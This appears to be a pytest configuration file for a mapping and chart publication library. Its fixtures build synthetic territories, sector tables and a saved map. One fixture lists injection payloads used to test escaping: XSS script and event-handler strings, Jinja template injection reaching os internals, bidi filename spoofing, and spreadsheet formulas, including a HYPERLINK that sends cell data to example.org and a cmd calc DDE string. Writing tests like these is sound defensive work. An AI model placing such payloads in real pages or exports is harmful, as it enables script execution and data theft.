"""Maps that are opened in Chromium, and texts that leave a picture."""

from __future__ import annotations

import inspect
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.text import Text

from geoterritorio.publication.drawing import RESOLUTION, picture

_TEXT = re.compile(r"\b(str|Words|Titles|Language|Data[fF]rame|GeoDataFrame|object|Any|Message)\b")


def squares(side: int, *, names: list[str] | None = None) -> gpd.GeoDataFrame:
    """Chessboard of territories, one tenth of a degree each, rows from the south."""
    column, row = (v.ravel() for v in np.meshgrid(np.arange(side), np.arange(side)))
    shapes = shapely.box(column / 10, 40 + row / 10, (column + 1) / 10, 40 + (row + 1) / 10)
    ids = [f"{k:03d}" for k in range(side * side)]
    return gpd.GeoDataFrame(
        {"territory": ids, "name": names or [f"Town {k}" for k in ids]}, geometry=shapes, crs=4326
    )


def table(ids: list[str]) -> pd.DataFrame:
    """Three sectors whose cells run through every class and every certainty."""
    lq = np.resize([0.3, 0.7, 0.85, 1.0, 1.2, 1.5, 3.0, np.nan], len(ids))
    certainty = np.resize(["low", "unclear", "few", "untested", "high", "high", "high", "withheld"], len(ids))
    parts = []
    for shift, (code, name) in enumerate(
        [("C13", "Textiles"), ("C15", "Leather and footwear"), ("J62", "Cerámica")]
    ):
        x = np.roll(lq, shift)
        parts.append(
            pd.DataFrame(
                {
                    "territory": ids,
                    "sector": code,
                    "sector_name": name,
                    "lq": x,
                    "low": x * 0.8,
                    "high": x * 1.25,
                    "p": 0.0004,
                    "q": 0.03,
                    "employment": np.arange(len(ids)) * 10.0 + 5,
                    "establishments": np.arange(len(ids)) + 1.0,
                    "certainty": np.where(np.isnan(x) & (certainty != "withheld"), "untested", certainty),
                    "excess": np.arange(len(ids)) - 2.5,
                }
            )
        )
    return pd.concat(parts, ignore_index=True)


@pytest.fixture(scope="session")
def towns() -> gpd.GeoDataFrame:
    names = ["Ávila", "Alcoi/Alcoy", "Ourense", "Peñíscola", "O'Grove", "Zürich", "Łódź", "Ünye", "Town 9"]
    return squares(3, names=names)


@pytest.fixture(scope="session")
def quotients(towns: gpd.GeoDataFrame) -> pd.DataFrame:
    return table(towns["territory"].tolist())


@pytest.fixture(scope="session")
def map_file(
    towns: gpd.GeoDataFrame, quotients: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    from geoterritorio.publication import quotient_layer, territory_map

    centres = towns.assign(geometry=shapely.centroid(towns.geometry.array))
    layers = [
        quotient_layer(towns, quotients, name="Towns"),
        quotient_layer(centres, quotients, name="Centres"),
    ]
    path = tmp_path_factory.mktemp("map") / "map.html"
    territory_map(
        towns, *layers, title="Towns & sectors", sources=["Statistics office"], notes=["A note"]
    ).save(path)
    return path


@pytest.fixture
def outside():
    """Function that gives the texts of a picture that lie beyond its edges in the file it is written to."""

    def found(figure):
        picture(figure, ".png")
        # Every drawing lays the picture out anew, and may move what the file has cut: the layout of the file is kept.
        figure.set_layout_engine("none")
        figure.set_dpi(RESOLUTION)
        FigureCanvasAgg(figure)
        figure.draw_without_rendering()
        page = figure.bbox.padded(2)
        boxes = {text: text.get_window_extent() for text in figure.findobj(Text) if text.get_text().strip()}
        return [
            text.get_text()
            for text, box in boxes.items()
            if not (page.x0 <= box.x0 and box.x1 <= page.x1 and page.y0 <= box.y0 and box.y1 <= page.y1)
        ]

    return found


@pytest.fixture(scope="session")
def payloads() -> dict[str, str]:
    """What hostile texts are made of, by what they try; `__x` and `alert` would tell that something ran."""
    return {
        "script": "<script>window.__x=1;alert(1)</script>",
        "onerror": '"><img src=x onerror="window.__x=1;alert(1)">',
        "onload": "<svg onload=window.__x=1>",
        "frame": "<iframe srcdoc=\"<script>parent.__x=1</script>\"></iframe><base href='https://example.org/'>",
        "end tags": "</script></title></style></textarea></noscript><script>window.__x=1</script>",
        "comment": "<!--<script>]]>--><![CDATA[ <b> ?>",
        "entities": "&lt;b&gt;&#123;&quot;\\u003c\\x3c%3Cscript%3E&amp",
        "quotes": "'\"><a href=javascript:window.__x=1 onclick=window.__x=1 x='",
        "address": "javascript:window.__x=1",
        "template": "${window.__x=1}",
        "backtick": "`;window.__x=1;`${alert(1)}\\`",
        "jinja": "{{ 7*7 }}{{7*7}}",
        "jinja pid": "{{ cycler.__init__.__globals__.os.getpid() }}",
        "jinja block": "{% for x in (1,2) %}x{% endfor %}{% raw",
        "jinja comment": "{# gone #}{# y",
        "format": "{0}{name.__class__}{n}%s%(x)s$&$1$`",
        "separators": "line\u2028paragraph\u2029next\x85nbsp\xa0\ufeffend",
        "controls": "bell\x07tab\x0besc\x1b[31munit\x1f\x7fend",
        "nul": "nul\x00end",
        "bidi": "abc\u202efdp.exe\u2066\u2067\u200f",
        "formula": '=HYPERLINK("https://example.org/?x="&A1,"y")',
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "plus": "+1+1",
        "minus": "-1+1",
        "tab": "\t=1+1",
        "return": "\r=1+1",
        "field": 'x;=1+1;"\n=2+2',
        "long": "long " * 40 + "W" * 400,
        "prototype": "__proto__",
    }


@pytest.fixture(scope="session")
def text_arguments() -> Callable[[Any], list[str]]:
    """Arguments of a function, or fields of a class, in which text may come: by itself, in tables, within others."""

    def named(function: Any) -> list[str]:
        parameters = inspect.signature(function).parameters.values()
        # other layers, and views, have arguments of their own
        return [p.name for p in parameters if _TEXT.search(str(p.annotation))]

    return named
